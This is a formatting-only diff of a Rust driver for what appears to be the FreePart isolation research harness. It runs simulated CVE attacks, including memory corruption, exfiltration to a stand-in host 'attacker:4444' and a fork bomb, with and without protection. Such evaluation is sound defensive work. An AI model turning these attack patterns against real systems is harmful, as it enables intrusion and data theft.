@@ -35,7 +35,13 @@ fn main() {
     // Speed corruption.
     let probe_addr = {
         let mut p = Runtime::install(standard_registry(), Policy::freepart());
-        let r = drone::run(&mut p, &drone::DroneConfig { frames: 0, evil_frame: None });
+        let r = drone::run(
+            &mut p,
+            &drone::DroneConfig {
+                frames: 0,
+                evil_frame: None,
+            },
+        );
         p.objects.meta(r.speed).unwrap().buffer.unwrap().0
     };
     let mut fp = Runtime::install(standard_registry(), Policy::freepart());
@@ -43,7 +49,11 @@ fn main() {
         frames: 4,
         evil_frame: Some((
             1,
-            payloads::corrupt("CVE-2017-12606", probe_addr.0, (-0.3f64).to_le_bytes().to_vec()),
+            payloads::corrupt(
+                "CVE-2017-12606",
+                probe_addr.0,
+                (-0.3f64).to_le_bytes().to_vec(),
+            ),
         )),
     };
     let r = drone::run(&mut fp, &cfg);
@@ -61,7 +71,13 @@ fn main() {
     ];
     let addr = {
         let mut p = Runtime::install(standard_registry(), Policy::freepart());
-        let r = mcomix::run(&mut p, &mcomix::ViewerConfig { files: files.clone(), evil_at: None });
+        let r = mcomix::run(
+            &mut p,
+            &mcomix::ViewerConfig {
+                files: files.clone(),
+                evil_at: None,
+            },
+        );
         p.objects.meta(r.recent).unwrap().buffer.unwrap().0
     };
     let mut fp = Runtime::install(standard_registry(), Policy::freepart());
@@ -69,13 +85,18 @@ fn main() {
         &mut fp,
         &mcomix::ViewerConfig {
             files,
-            evil_at: Some((0, payloads::exfiltrate("CVE-2020-10378", addr.0, 30, "attacker:4444"))),
+            evil_at: Some((
+                0,
+                payloads::exfiltrate("CVE-2020-10378", addr.0, 30, "attacker:4444"),
+            )),
         },
     );
     let log = fp.exploit_log.clone();
     let (kernel, objects, host) = fp.attack_view();
     let v = judge(
-        &AttackGoal::Exfiltrate { marker: b"private-scan".to_vec() },
+        &AttackGoal::Exfiltrate {
+            marker: b"private-scan".to_vec(),
+        },
         kernel,
         objects,
         host,
@@ -102,8 +123,11 @@ fn main() {
             None,
         ),
     );
-    fp.call("torch.load", &[freepart_frameworks::Value::from("/models/warm.stsr")])
-        .unwrap();
+    fp.call(
+        "torch.load",
+        &[freepart_frameworks::Value::from("/models/warm.stsr")],
+    )
+    .unwrap();
     stegonet::run(&mut fp, &cfg);
     let fp_bomb = fp.exploit_log.last().unwrap().outcome.achieved();
     println!("fork bomb detonates unprotected: {orig_bomb}; under FreePart: {fp_bomb}");
